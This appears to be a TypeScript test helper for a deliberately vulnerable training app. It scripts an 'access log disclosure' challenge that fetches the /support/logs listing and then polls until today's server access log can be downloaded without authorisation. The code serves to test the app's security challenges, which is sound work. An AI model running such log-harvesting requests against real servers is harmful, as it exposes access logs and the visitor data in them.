import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { accessLogName } from './access-log.writer'

const today = () => accessLogName(new Date())

/** Downloads today's access log from /support/logs until it holds `line` (the log is written a moment later). */
export async function downloadAccessLogHolding(target: AttackTarget, line: string, timeoutMs = 5000): Promise<string> {
  const end = Date.now() + timeoutMs
  for (;;) {
    const log = await request(target).get(`/support/logs/${today()}`)
    if (log.text.includes(line) || Date.now() > end) return log.text
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

export const accessLogAttacks = {
  accessLogDisclosureChallenge: async (target) => {
    await request(target).get('/support/logs').set('Accept', 'text/html')
    return downloadAccessLogHolding(target, '"GET /support/logs HTTP/1.1"')
  },
} satisfies Attacks
